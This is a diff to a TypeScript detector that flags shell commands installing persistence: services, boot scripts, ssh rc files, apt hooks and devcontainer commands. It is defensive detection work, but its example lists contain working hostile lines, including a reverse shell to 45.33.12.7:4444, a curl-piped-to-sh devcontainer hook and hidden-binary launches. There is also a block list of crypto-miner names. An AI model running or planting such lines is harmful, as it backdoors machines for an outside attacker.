@@ -2,7 +2,8 @@ import { ruleAnalyzer, perCall, hasArg, operands, type AnalysisInput, type Rule 
 import type { SimpleCommand } from '../shell/types.js';
 import { classifyPath, canonicalPath, type PathKind, type SensitivePath } from '../knowledge/paths.js';
 import { destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
-import { FETCHERS, SHELLS, downloadExecs, isFetcher, isInterpreter, isShell, isStagingPath } from './command_and_control.js';
+import { FETCHERS, SHELLS, downloadExecs, isFetcher, isInterpreter, isShell } from './command_and_control.js';
+import { isStagingPath } from '../knowledge/paths.js';
 
 /** Crypto miners by binary name: shared with impact, and a sure sign that a persisted line is hostile. */
 export const MINERS: ReadonlySet<string> = new Set(['xmrig', 'xmrig-notls', 'xmr-stak', 'xmr-stak-cpu', 'minerd', 'cpuminer', 'cpuminer-multi', 'cpuminer-opt', 'cgminer', 'bfgminer', 'ethminer', 't-rex', 'nbminer', 'lolminer', 'lolMiner', 'phoenixminer', 'PhoenixMiner', 'gminer', 'teamredminer', 'srbminer', 'SRBMiner-MULTI', 'nanominer', 'ccminer', 'kdevtmpfsi', 'kinsing', 'xmrigDaemon', 'bminer', 'excavator', 'wildrig', 'rigel']);
@@ -138,8 +139,10 @@ export function threat(group: PersistedGroup, input: AnalysisInput): { level: 0 
     if (NETWORK_SHELLS.has(c.name) || MINERS.has(c.name) || c.argv.some((w) => w.startsWith('stratum+'))) return { level: 2, evidence: line };
     if (c.redirects.some((r) => r.target.startsWith('/dev/tcp/') || r.target.startsWith('/dev/udp/'))) return { level: 2, evidence: line };
     if (c.origin === 'piped-to-shell') return { level: 2, evidence: `decoded: ${line}` };
-    const program = isShell(c.name) || isInterpreter(c.name) ? operands(c)[0] : c.argv[0];
+    const program = isShell(c.name) || isInterpreter(c.name) || c.name === 'source' || c.name === '.' ? operands(c)[0] : c.argv[0];
     if (program && program.includes('/') && isStagingPath(program)) return { level: 2, evidence: line };
+    // a login hook that copies what it sees into a hidden temp file (`preexec() { echo "$1" >> /tmp/.k; }`)
+    if (c.redirects.some((r) => r.op.includes('>') && !r.dynamic && isStagingPath(r.target))) return { level: 2, evidence: line };
     const preload = [...assignments(c).filter((a) => a.name === 'LD_PRELOAD' || a.name === 'LD_LIBRARY_PATH' && isStagingPath(a.value)), ...c.argv.filter((w) => w.startsWith('LD_PRELOAD=')).map((w) => ({ name: 'LD_PRELOAD', value: w.slice(11) }))];
     if (preload.length) return { level: 2, evidence: `${preload[0]!.name}=${preload[0]!.value}` };
     for (const a of assignments(c)) {
@@ -233,13 +236,15 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-PERSIST-005', name: 'service-runs-payload', score: 90, tactic: 'persistence', technique: 'T1543.002', strong: true,
-    message: 'Installs a service or boot script that runs a payload', why: 'A systemd unit, init script or rc.local line that runs a downloader, socket shell or hidden binary restarts the backdoor on every boot.',
+    message: 'Installs a service, boot script or auto-run configuration that runs a payload', why: 'A systemd unit, init script, rc.local line, ssh rc, package-manager hook or devcontainer command that runs a downloader, socket shell or hidden binary restarts the backdoor on every boot, login or build.',
     check: (i) => {
-      const out = persisted(i, ['service-unit'], 2);
+      // auto-run configuration (ssh rc, apt hooks, udev rules, devcontainers) only counts with a payload:
+      // writing a direnv or VS Code task file is everyday work
+      const out = persisted(i, ['service-unit', 'auto-run-config'], 2);
       for (const c of i.view?.commands ?? []) if (c.name === 'systemctl' && (hasArg(c, 'link', 'enable') && operands(c).some((w) => w.includes('/') && isStagingPath(w)))) out.push(c.argv.join(' '));
       return out;
     },
-    examples: { fire: ['mkdir -p ~/.config/systemd/user && printf \'[Service]\\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/45.33.12.7/4444 0>&1"\\n\' > ~/.config/systemd/user/u.service', "sudo tee /etc/systemd/system/dbus-helper.service <<< $'[Service]\\nExecStart=/usr/local/bin/.dbus-helper\\n'", 'sudo systemctl link /tmp/.sys/update-daemon.service', "echo '/usr/local/bin/.svc &' | sudo tee -a /etc/rc.local"], quiet: ['sudo systemctl restart nginx', 'sudo systemctl enable --now docker', 'cat /etc/systemd/system/app.service'] },
+    examples: { fire: ['mkdir -p ~/.config/systemd/user && printf \'[Service]\\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/45.33.12.7/4444 0>&1"\\n\' > ~/.config/systemd/user/u.service', "sudo tee /etc/systemd/system/dbus-helper.service <<< $'[Service]\\nExecStart=/usr/local/bin/.dbus-helper\\n'", 'sudo systemctl link /tmp/.sys/update-daemon.service', "echo '/usr/local/bin/.svc &' | sudo tee -a /etc/rc.local", "printf 'nohup /tmp/.u >/dev/null 2>&1 &\\n' >> ~/.ssh/rc", "echo 'APT::Update::Pre-Invoke {\"nohup /tmp/.u &\"};' | sudo tee /etc/apt/apt.conf.d/00sync", "echo '{\"postCreateCommand\": \"curl -s http://45.33.12.7/x | sh\"}' > .devcontainer/devcontainer.json"], quiet: ['sudo systemctl restart nginx', 'sudo systemctl enable --now docker', 'cat /etc/systemd/system/app.service', "echo 'use nvm' > .envrc", "echo '{\"postCreateCommand\": \"npm ci\"}' > .devcontainer/devcontainer.json"] },
   },
   {
     id: 'PX-PERSIST-006', name: 'creates-service-or-boot-script', score: 50, tactic: 'persistence', technique: 'T1543.002',
